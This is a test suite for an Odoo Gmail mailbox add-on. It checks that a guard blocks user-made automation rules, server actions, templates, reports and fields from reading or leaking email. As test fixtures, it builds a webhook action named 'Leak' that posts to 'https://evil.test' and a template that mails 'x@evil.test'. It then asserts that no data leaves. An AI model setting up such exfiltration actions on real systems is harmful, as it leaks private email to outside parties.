"""Nothing that users make in Odoo reads email past its rules: no automation rule, no
action, template, report, field, filter, or property."""

from unittest.mock import patch

from odoo.exceptions import AccessError, ValidationError
from odoo.fields import Command
from odoo.tests import tagged
from odoo.tools import mute_logger

from odoo.addons.gmail_oauth_mailbox.services import gmail_guard

from .common import ANNA, GmailCase, mail

GUARD = gmail_guard.__name__
SECRET = "Walnut terms"


@tagged("standard", "post_install", "-at_install")
class TestGuard(GmailCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.guard = cls.env["gmail.guard"]
        ours = cls.env["ir.model"].search([("model", "=like", "gmail.%")])
        cls.models = ours.filtered(lambda model: not cls.env[model.model]._abstract)
        cls.admin = cls.env.ref("base.user_admin")

    def model(self, name):
        return self.env["ir.model"]._get(name)

    def field(self, model, name):
        return self.env["ir.model.fields"]._get(model, name)

    def refused(self, model, values, record=None):
        """Check that an administrator can't write values into a record of a model, nor
        create one with them."""
        records = self.env[model].with_user(self.admin)
        with self.assertRaises(ValidationError), self.cr.savepoint():
            records.create(values)
            self.env.flush_all()
        if record is not None:
            with self.assertRaises(ValidationError), self.cr.savepoint():
                record.with_user(self.admin).write(values)
                self.env.flush_all()

    # ------------------------------------------------------------------
    # All fields of the database
    # ------------------------------------------------------------------

    def test_every_field_that_names_a_model_is_guarded(self):
        """Each is pointed at each model of ours, and at each field of one."""
        count = 0
        content = self.env["ir.model"].search([("model", "=", "gmail.message")])
        fields = {
            "ir.model": self.models,
            "ir.model.fields": self.models.field_id,
            "ir.model.fields.selection": content.field_id.selection_ids,
        }
        for name, model in self.env.registry.items():
            if name.startswith("gmail."):
                continue
            if name in gmail_guard.REFLECTIONS | gmail_guard.NOTES:
                continue
            if model._abstract or not model._auto:
                continue
            record = self.env[name].sudo()
            for field in model._fields.values():
                if field.comodel_name not in fields or field.type == "one2many":
                    continue
                if field.related or not (field.store or field.inverse):
                    continue
                with self.subTest(model=name, field=field.name):
                    self.assertIn(field.name, self.guard._fields_of(name))
                    names = {
                        constrained
                        for check in record._constraint_methods
                        for constrained in check._constrains
                        if field.name in check._constrains
                    }
                    self.assertIn(field.name, names)
                    if field.compute:
                        # A new record has what follows from another field, which is
                        # guarded.
                        continue
                    for target in fields[field.comodel_name]:
                        value = target.id
                        if field.type == "many2many":
                            value = [Command.set(target.ids)]
                        new = record.new({field.name: value})
                        self.assertTrue(self.guard._is_refused(new), target)
                        count += 1
        self.assertGreater(count, 500)

    def test_other_models_are_free(self):
        partners = self.model("res.partner")
        action = self.env["ir.actions.server"].create(
            {
                "name": "Free",
                "model_id": partners.id,
                "state": "object_write",
                "update_path": "parent_id.name",
                "value": "x",
            }
        )
        self.assertTrue(self.guard._may_act(action))
        self.assertEqual(self.guard._refused(), [])

    # ------------------------------------------------------------------
    # Samples of what administrators make
    # ------------------------------------------------------------------

    def test_server_actions_of_every_type(self):
        partners, messages = self.model("res.partner"), self.model("gmail.message")
        free = {"name": "A", "model_id": partners.id, "state": "code", "code": "pass"}
        action = self.env["ir.actions.server"].create(free)
        states = dict(self.env["ir.actions.server"]._fields["state"].selection)
        for state in sorted(set(states) | {"webhook", "object_write", "mail_post"}):
            with self.subTest(state=state):
                self.refused(
                    "ir.actions.server",
                    {**free, "state": state, "model_id": messages.id},
                )
        with self.assertRaises(ValidationError), self.cr.savepoint():
            action.with_user(self.admin).model_id = messages
        for values in (
            {
                "state": "webhook",
                "webhook_field_ids": [(6, 0, self.models.field_id.ids)],
            },
            {"state": "object_create", "crud_model_id": messages.id},
        ):
            with self.subTest(values=values):
                self.refused("ir.actions.server", {**free, **values})

    def test_a_path_that_leads_through_email(self):
        users = self.model("res.users")
        own = [
            name
            for name, field in self.env["res.users"]._fields.items()
            if (field.comodel_name or "").startswith("gmail.")
        ]
        self.assertTrue(own)
        for name in own:
            self.refused(
                "ir.actions.server",
                {
                    "name": "A",
                    "model_id": users.id,
                    "state": "object_write",
                    "update_path": f"partner_id.user_ids.{name}.name",
                },
            )

    def test_automation_rules(self):
        messages = self.model("gmail.message")
        for values in (
            {"model_id": messages.id, "trigger": "on_create"},
            {
                "model_id": messages.id,
                "trigger": "on_write",
                "trigger_field_ids": [(6, 0, messages.field_id[:1].ids)],
            },
            {
                "model_id": self.model("res.users").id,
                "trigger": "on_write",
                "trigger_field_ids": [(6, 0, messages.field_id[:1].ids)],
            },
        ):
            with self.subTest(values=values):
                self.refused("base.automation", {"name": "A", **values})

    def test_templates_and_reports(self):
        messages = self.model("gmail.message")
        template = self.env["mail.template"].create(
            {"name": "T", "model_id": self.model("res.partner").id}
        )
        values = {"name": "T", "model_id": messages.id}
        self.refused("mail.template", values, template)
        report = self.env["ir.actions.report"].create(
            {"name": "R", "model": "res.partner", "report_name": "base.r"}
        )
        values = {"name": "R", "model": "gmail.message", "report_name": "base.r"}
        self.refused("ir.actions.report", values, report)

    def test_fields(self):
        partners, messages = self.model("res.partner"), self.model("gmail.message")
        users = self.model("res.users")
        for model, values in (
            (partners, {"ttype": "many2one", "relation": "gmail.message"}),
            (partners, {"ttype": "many2many", "relation": "gmail.thread"}),
            (messages, {"ttype": "char"}),
            (users, {"ttype": "char", "related": "gmail_mailbox_ids.name"}),
        ):
            if "related" in values:
                name = values["related"].partition(".")[0]
                if name not in self.env["res.users"]._fields:
                    continue
            with self.subTest(values=values):
                self.refused(
                    "ir.model.fields",
                    {"name": "x_a", "model_id": model.id, "state": "manual", **values},
                )

    def test_properties(self):
        """Their definition is the record of some container."""
        name, field = next(
            (model._name, field.name)
            for model in self.env.registry.values()
            for field in model._fields.values()
            if field.type == "properties_definition" and not model._abstract
        )
        record = self.env[name].search([], limit=1)
        definition = {"name": "a1", "string": "A", "type": "many2one"}
        for comodel in ("gmail.message", "gmail.thread"):
            with self.assertRaises(ValidationError), self.cr.savepoint():
                record[field] = [{**definition, "comodel": comodel}]
                self.env.flush_all()
        record[field] = [{**definition, "comodel": "res.partner"}]

    def test_filters_for_others(self):
        values = {"name": "F", "model_id": "gmail.thread", "domain": "[]"}
        filters = self.env["ir.filters"].with_user(self.ben)
        for users in ([], self.anna.ids, (self.anna | self.ben).ids):
            with self.assertRaises(ValidationError), self.cr.savepoint():
                filters.create({**values, "user_ids": [(6, 0, users)]})
        own = filters.create({**values, "user_ids": [(6, 0, self.ben.ids)]})
        found = filters.get_filters("gmail.thread")
        self.assertEqual([f["id"] for f in found], own.ids)
        # An update and Check setup leave it alone.
        self.guard._switch_off()
        self.assertTrue(own.active)
        self.assertEqual(self.guard._refused(), [])
        with self.assertRaises(ValidationError), self.cr.savepoint():
            own.with_user(self.admin).user_ids = self.anna
        # One that was made by another road is shown to none.
        self.cr.execute("DELETE FROM ir_filters_res_users_rel")
        self.env.invalidate_all()
        self.assertFalse(filters.get_filters("gmail.thread"))

    def test_user_defined_defaults(self):
        field = self.field("gmail.draft", "state") or self.models.field_id[:1]
        self.refused(
            "ir.default", {"field_id": field.id, "json_value": '"x"', "user_id": False}
        )

    # ------------------------------------------------------------------
    # What is there already
    # ------------------------------------------------------------------

    def planted(self, model, record):
        """Have a record be about a model of ours without the guard's knowledge."""
        self.env.flush_all()
        for column, value in (("model_id", self.model(model).id), ("model", model)):
            field = record._fields.get(column)
            if field is not None and field.store:
                self.cr.execute(
                    f"UPDATE {record._table} SET {column} = %s"  # noqa: S608
                    " WHERE id = %s",
                    [value, record.id],
                )
        self.env.invalidate_all()
        return record

    def webhook(self):
        """Return the values of an action that posts a contact to an address."""
        return {
            "name": "Leak",
            "model_id": self.model("res.partner").id,
            "state": "webhook",
            "webhook_url": "https://evil.test",
        }

    def test_an_action_that_is_there_does_nothing(self):
        box = self.connect(self.anna, ANNA)
        self.google.add_message(ANNA, mail(body=SECRET))
        self.sync(box)
        message = self.env["gmail.message"].search([])
        self.assertTrue(message)
        action = self.planted(
            "gmail.message",
            self.env["ir.actions.server"].create(self.webhook()),
        )
        context = {"active_model": "gmail.message", "active_id": message.id}
        with (
            patch("requests.post") as post,
            mute_logger(GUARD),
        ):
            action.with_context(**context).run()
            self.env.cr.postcommit.run()
        post.assert_not_called()
        [found] = self.guard._refused()
        self.assertEqual(found, action)
        points = {name: text for _s, name, text in self.env["gmail.check"]._points()}
        self.assertIn("Leak", points["Automation"])

    def test_an_automation_rule_that_is_there_does_nothing(self):
        rule = self.env["base.automation"].create(
            {
                "name": "Leak",
                "model_id": self.model("res.partner").id,
                "trigger": "on_create",
                "action_server_ids": [Command.create(self.webhook())],
            }
        )
        self.planted("gmail.message", rule.action_server_ids)
        self.planted("gmail.message", rule)
        self.env["base.automation"]._register_hook()
        self.addCleanup(self.env["base.automation"]._unregister_hook)
        box = self.connect(self.anna, ANNA)
        self.google.add_message(ANNA, mail(body=SECRET))
        with patch("requests.post") as post, mute_logger(GUARD):
            self.sync(box)
            self.env.cr.postcommit.run()
        post.assert_not_called()
        self.assertTrue(self.env["gmail.message"].search([]))
        self.guard._switch_off()
        self.assertFalse(rule.active)

    def test_templates_and_reports_that_are_there(self):
        template = self.planted(
            "gmail.thread",
            self.env["mail.template"].create(
                {
                    "name": "Leak",
                    "model_id": self.model("res.partner").id,
                    "subject": "{{ object.display_name }}",
                    "email_to": "x@evil.test",
                }
            ),
        )
        box = self.connect(self.anna, ANNA)
        self.google.add_message(ANNA, mail(body=SECRET))
        self.sync(box)
        thread = self.env["gmail.thread"].search([], limit=1)
        with self.assertRaises(AccessError), mute_logger(GUARD):
            template.send_mail(thread.id)
        report = self.planted(
            "gmail.thread",
            self.env["ir.actions.report"].create(
                {
                    "name": "R",
                    "model": "res.partner",
                    "report_name": "web.html_container",
                }
            ),
        )
        with self.assertRaises(AccessError), mute_logger(GUARD):
            report._render_qweb_html(report, thread.ids)

    def test_a_field_that_is_there_is_none(self):
        data = {
            "model": "res.partner",
            "relation": "gmail.message",
            "related": False,
            "ttype": "many2one",
        }
        fields = self.env["ir.model.fields"]
        self.assertIsNone(fields._instanciate_attrs(data))
        related = next(
            name
            for name, field in self.env["res.users"]._fields.items()
            if (field.comodel_name or "").startswith("gmail.")
        )
        for model, path in (
            ("res.users", f"{related}.name"),
            ("res.partner", f"user_ids.{related}.name"),
        ):
            data = {**data, "model": model, "relation": False, "related": path}
            self.assertIsNone(fields._instanciate_attrs(data))
